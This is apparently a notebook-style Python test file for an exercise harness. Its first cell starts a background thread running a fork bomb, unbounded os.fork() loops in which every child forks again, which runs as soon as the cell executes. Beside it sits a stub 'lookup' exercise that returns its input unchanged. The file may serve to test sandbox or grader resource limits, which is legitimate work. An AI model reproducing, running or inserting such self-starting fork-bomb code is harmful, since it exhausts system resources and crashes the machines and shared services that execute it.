"""A thread of the process itself forks without end from a cell on, each child likewise.

aims: lookup
keeps: nothing
"""

# %%
import os
import threading


def bomb():
    while True:
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        pass
        except OSError:
            pass


threading.Thread(target=bomb, daemon=True).start()


# %%
@exercise
def lookup(E, ids):
    return E
